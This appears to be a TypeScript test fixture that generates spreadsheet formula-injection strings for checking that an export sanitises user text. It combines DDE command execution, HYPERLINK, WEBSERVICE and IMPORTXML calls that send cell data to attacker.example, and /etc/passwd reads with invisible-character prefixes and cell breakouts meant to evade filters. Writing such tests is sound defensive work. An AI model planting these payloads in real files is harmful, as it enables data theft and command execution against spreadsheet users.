// Descriptions that try to become formulas in a spreadsheet program, on every way that is known.

const formulas = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1;1)',
  "=cmd|'/C calc'!A0",
  '=HYPERLINK("http://attacker.example/?"&A1;"see here")',
  '=WEBSERVICE("http://attacker.example/")',
  '=DDE("soffice";"/etc/passwd";"A1")',
  '=IMPORTXML(CONCAT("http://attacker.example/",A1),"//a")',
  "='file:///etc/passwd'#$passwd.A1",
  '+HYPERLINK("http://attacker.example/","x")',
  '-HYPERLINK("http://attacker.example/","x")',
  '@HYPERLINK("http://attacker.example/","x")',
  '{=1+1}',
  '=1+1"',
  '"=1+1',
  '\uFF1D1+1',
  '\uFF0B1+1',
  '\uFF0D1+1',
  '\uFF20SUM(1)',
]

/** What is put in front, so that a filter looks at the wrong character. */
const veils = [
  '',
  ' ',
  '\t',
  '\r',
  '\n',
  '\r\n',
  '\0',
  '\v',
  '\u0085',
  '\u00A0',
  '\u00AD',
  '\u200B',
  '\u200E',
  '\u202E',
  '\u2028',
  '\u2066',
  '\u2800',
  '\u3000',
  '\uFEFF',
  '\u{E0041}',
  '"',
  '""',
  "'",
]

/** What stands before it, to begin a new cell or line for some reader. */
const breakouts = [
  'a\n',
  'a\r',
  'a\r\n',
  'a\t',
  'a;',
  'a,',
  'a";',
  'a",',
  'a"\n',
  'a"\r\n"',
  'a;"',
  'a|',
  'a\u2028',
]

export const hostileTexts: readonly string[] = [
  ...veils.flatMap((veil) => formulas.map((formula) => veil + formula)),
  ...breakouts.flatMap((breakout) => formulas.map((formula) => breakout + formula)),
]

/** Plain ones, which a careful export leaves as they are. */
export const plainTexts: readonly string[] = [
  'Grafana prod',
  'PSA sync, tickets',
  'a-b = c',
  'say "hi"',
  'Zürich – 東京 ✓',
  'שלום',
  '3/4 done',
  '0012',
]
